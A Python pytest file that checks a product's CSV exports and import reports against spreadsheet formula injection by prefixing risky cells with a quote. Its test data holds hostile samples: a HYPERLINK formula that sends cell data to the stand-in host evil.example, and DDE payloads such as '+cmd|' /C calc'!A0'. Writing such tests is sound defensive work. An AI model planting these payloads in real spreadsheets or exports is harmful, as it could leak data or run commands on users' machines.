"""Every CSV file the product hands out keeps cells that a spreadsheet would run as formulas as text."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from smartcomm.audiences.importer import audience_import_service
from smartcomm.audiences.schemas import ImportRequest
from smartcomm.kit.csvfile import csv_text, safe_cell
from smartcomm.models import ImportJob
from smartcomm.segments.rules import SegmentRules
from smartcomm.segments.schemas import SegmentIn
from smartcomm.segments.service import segment_service
from tests.conftest import UIClient
from tests.events.conftest import TESTS, make_customer
from tests.factories import make_user

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("Ivanov", "Ivanov"),
        ("1+1", "1+1"),
        # Only digits, spaces and +-(). cannot name a function, a cell or a program.
        ("+7 916 123-45-67", "+7 916 123-45-67"),
        ("-15.50", "-15.50"),
        (-15, -15),
        (Decimal("-0.01"), Decimal("-0.01")),
        (date(2026, 1, 2), "2026-01-02"),
        (None, ""),
    ],
)
def test_cells_that_would_run_are_kept_text(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_the_writer_quotes_as_csv_and_neutralises_every_cell() -> None:
    text = csv_text([["name", "amount"], [HYPERLINK, -5], ["=1;2", 3]])

    assert list(csv.reader(io.StringIO(text), delimiter=";")) == [
        ["name", "amount"],
        ["'" + HYPERLINK, "-5"],
        ["'=1;2", "3"],
    ]


def test_a_segment_export_keeps_formula_names_as_text(client: UIClient, session: Session) -> None:
    make_customer(
        session,
        "C-1",
        last_name=HYPERLINK,
        first_name="+cmd|' /C calc'!A0",
        city="@SUM(A1)",
        phone="+79161234567",
    )
    segment = segment_service.create(session, TESTS, SegmentIn(name="Everyone", rules=SegmentRules()))
    segment_service.build(session, segment.id, "manual")
    session.commit()
    user, password = make_user(session, role="analyst")
    client.sign_in(user.email, password)

    response = client.get(f"/segments/{segment.id}/export.csv")

    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff")), delimiter=";"))
    assert rows[1][:8] == [
        "C-1",
        "'" + HYPERLINK,
        "'+cmd|' /C calc'!A0",
        "",
        "",
        "+79161234567",
        "'@SUM(A1)",
        "0",
    ]


def test_an_audience_import_report_keeps_formula_values_as_text(client: UIClient, session: Session) -> None:
    request = ImportRequest(new_name="Promo")
    content = f"{HYPERLINK}\n-1+cmd|x!A0\n".encode()
    job = audience_import_service.start(session, TESTS, request, "list.csv", io.BytesIO(content))
    audience_import_service.run(job.id)
    session.commit()
    user, password = make_user(session, role="marketer")
    client.sign_in(user.email, password)

    response = client.get(f"/audiences/imports/{job.id}/unmatched.csv")

    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff")), delimiter=";"))
    assert [row[1] for row in rows[1:]] == ["'" + HYPERLINK, "'-1+cmd|x!A0"]


def test_an_import_error_report_keeps_formula_cells_as_text(client: UIClient, session: Session) -> None:
    user, password = make_user(session, role="administrator")
    client.sign_in(user.email, password)
    header = f'external_id;first_name;"{HYPERLINK.replace(chr(34), chr(34) * 2)}"'
    content = f"{header}\nC-1;Ivan;x\n".encode()
    data = {"kind": "customers", "valid_rows_only": "false", "csrf_token": client.csrf}

    client.post("/imports", data=data, files={"file": ("people.csv", content, "text/csv")})
    job = session.scalars(select(ImportJob)).one()
    response = client.get(f"/imports/{job.id}/errors.csv")

    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    assert ["1", "'" + HYPERLINK, "unknown column"] in rows
